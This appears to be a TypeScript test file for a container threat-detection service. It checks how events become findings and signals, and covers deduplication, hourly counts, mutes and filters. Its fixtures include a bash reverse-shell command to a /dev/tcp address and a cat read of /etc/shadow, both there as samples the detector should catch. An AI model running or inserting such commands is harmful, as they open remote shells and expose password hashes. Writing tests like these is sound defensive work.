/** A threat is a signal, whatever is decided about the posture that it also is. */
import { beforeEach, expect, test } from "vitest";
import {
  batch,
  DAY,
  gcc,
  HOUR,
  iso,
  type JsonObject,
  MINUTE,
  newContainer,
  okJson,
  pass,
  Site,
  stopClock,
  unique,
} from "./support.ts";

beforeEach(stopClock);

/** Of class `both`: a finding and a signal. */
const shadowRead = (container: string, fields: JsonObject = {}): JsonObject =>
  gcc(container, {
    kind: "file",
    action: "open",
    file: { path: "/etc/shadow" },
    process: { exe: "/usr/bin/cat", name: "cat" },
    ...fields,
  });

/** Of class `threat`. */
const reverseShell = (container: string, fields: JsonObject = {}): JsonObject =>
  gcc(container, {
    process: {
      exe: "/bin/bash",
      name: "bash",
      args: ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    },
    ...fields,
  });

async function site() {
  const opened = await Site.open();
  const host = unique("host");
  return { site: opened, host, owner: `host:${host}`, container: newContainer() };
}

test("an event that is posture and threat gives a finding and a signal", async () => {
  const { site: lull, host, owner, container } = await site();
  const answer = await lull.send(batch(host, [shadowRead(container)]));
  expect(answer).toMatchObject({ accepted: 1, findings: 1, signals: 1 });
  await lull.alarm(owner);
  expect(await lull.onlyFinding()).toMatchObject({ rule: "sensitive-file-read", status: "open" });
  const { items } = await lull.signals();
  expect(items).toMatchObject([
    { rule: "sensitive-file-read", count: 1, sample: { file: { path: "/etc/shadow" } } },
  ]);
});

test("an event that is only a threat opens no finding", async () => {
  const { site: lull, host, owner, container } = await site();
  const answer = await lull.send(batch(host, [reverseShell(container)]));
  expect(answer).toMatchObject({ accepted: 1, signals: 1 });
  await lull.alarm(owner);
  const { items } = await lull.signals("?rule=reverse-shell");
  expect(items).toMatchObject([{ severity: "critical", resource: { host } }]);
  expect((await lull.findings("?rule=reverse-shell")).items).toEqual([]);
});

test("a threat repeated within the hour is one signal with a count; another hour or another way is another", async () => {
  const { site: lull, host, owner, container } = await site();
  const firstAt = iso();
  for (let i = 0; i < 3; i++) {
    await lull.send(batch(host, [reverseShell(container)]));
    await lull.alarm(owner);
    pass(10 * MINUTE);
  }
  expect((await lull.signals()).items).toMatchObject([
    { count: 3, firstSeenAt: firstAt, lastSeenAt: iso(Date.now() - 10 * MINUTE) },
  ]);
  const other = { process: { exe: "/bin/bash", name: "bash", args: ["/dev/tcp/198.51.100.7/1"] } };
  await lull.send(batch(host, [reverseShell(container, other)]));
  pass(HOUR);
  await lull.send(batch(host, [reverseShell(container)]));
  await lull.alarm(owner);
  const { items } = await lull.signals();
  expect(items.map((signal) => signal.count)).toEqual([1, 1, 3]);
});

test("a repeated batch raises no signal twice", async () => {
  const { site: lull, host, owner, container } = await site();
  const body = batch(host, [reverseShell(container)]);
  await lull.send(body);
  expect(await lull.send(body)).toMatchObject({ duplicate: 1, signals: 0 });
  await lull.alarm(owner);
  expect((await lull.signals()).items).toMatchObject([{ count: 1 }]);
});

test("a mute of the finding hides no signal", async () => {
  const { site: lull, host, owner, container } = await site();
  await lull.send(batch(host, [shadowRead(container)]));
  await lull.alarm(owner);
  const [finding] = (await lull.findings()).items;
  const mute = { reason: "other", note: "n", until: iso(Date.now() + DAY) };
  await okJson(await lull.apiJson("POST", `/findings/${finding?.id}/mute`, mute));
  pass(2 * HOUR);
  expect(await lull.send(batch(host, [shadowRead(container)]))).toMatchObject({ signals: 1 });
  await lull.alarm(owner);
  expect(await lull.onlyFinding()).toMatchObject({ muted: true, count: 2 });
  expect((await lull.signals()).items).toHaveLength(2);
});

test("a posture rule that is disabled hides no signal of a threat in the same event", async () => {
  const { site: lull, host, owner, container } = await site();
  await lull.patchRule("shell-spawned-by-app", { enabled: false });
  await lull.patchRule("interactive-shell-in-container", { enabled: false });
  const event = reverseShell(container);
  expect(await lull.send(batch(host, [event]))).toMatchObject({ accepted: 1, signals: 1 });
  await lull.alarm(owner);
  expect((await lull.signals()).items).toMatchObject([{ rule: "reverse-shell" }]);
});

test("signals are listed by each of their filters", async () => {
  const { site: lull, host, owner, container } = await site();
  const k8s = { namespace: "shop", pod: "api-1", workload: { kind: "Deployment", name: "api" } };
  await lull.send(batch(host, [reverseShell(container, { k8s })]));
  await lull.alarm(owner);
  const matching = {
    severity: "critical,high",
    rule: "reverse-shell",
    resource: container,
    host,
    namespace: "shop",
    workload: "api",
    q: "Reverse Shell",
  };
  for (const [name, value] of Object.entries(matching)) {
    const { items } = await lull.signals(`?${name}=${encodeURIComponent(value)}`);
    expect(items, name).toHaveLength(1);
    const other = name === "severity" ? "low" : "other";
    expect((await lull.signals(`?${name}=${other}`)).items, name).toEqual([]);
  }
});
